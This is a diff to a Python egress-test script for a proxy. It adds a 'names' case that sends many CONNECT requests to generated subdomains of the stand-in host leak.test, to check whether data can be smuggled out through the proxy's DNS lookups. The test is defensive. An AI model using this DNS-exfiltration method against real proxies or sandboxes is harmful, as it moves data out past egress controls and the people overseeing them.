@@ -10,6 +10,8 @@ when the attempt failed, "CASE=OPEN:detail" when it got through, and
   flood                 connection, handshake and record floods, then a
                         control fetch
   spent                 connections under net-egress 0
+  names N               N CONNECTs, each to a new name under *.leak.test
+                        (the data to smuggle out in DNS questions)
 """
 import socket
 import struct
@@ -283,10 +285,27 @@ def spent():
     socks_case("spent_socks", 3, "public.test", 8080)
 
 
+def names(n):
+    """Data out in the names the proxy looks up: each name of a wildcard
+    entry is the skill's to choose, and no answer is needed.  "names"
+    says how many the proxy took (its reply other than its 403 or 502)."""
+    codes = {}
+    for i in range(n):
+        label = "%04d" % i + "0123456789abcdef" * 2
+        try:
+            code, _ = http_through("%s.leak.test:8080" % label)
+        except OSError as e:
+            code = "error %s" % e.errno
+        codes[code] = codes.get(code, 0) + 1
+    out("names", "DONE", " ".join("%s*%d" % kv for kv in sorted(codes.items())))
+
+
 if __name__ == "__main__":
     if sys.argv[1] == "probe":
         probe(sys.argv[2], sys.argv[3])
     elif sys.argv[1] == "spent":
         spent()
+    elif sys.argv[1] == "names":
+        names(int(sys.argv[2]))
     else:
         flood()
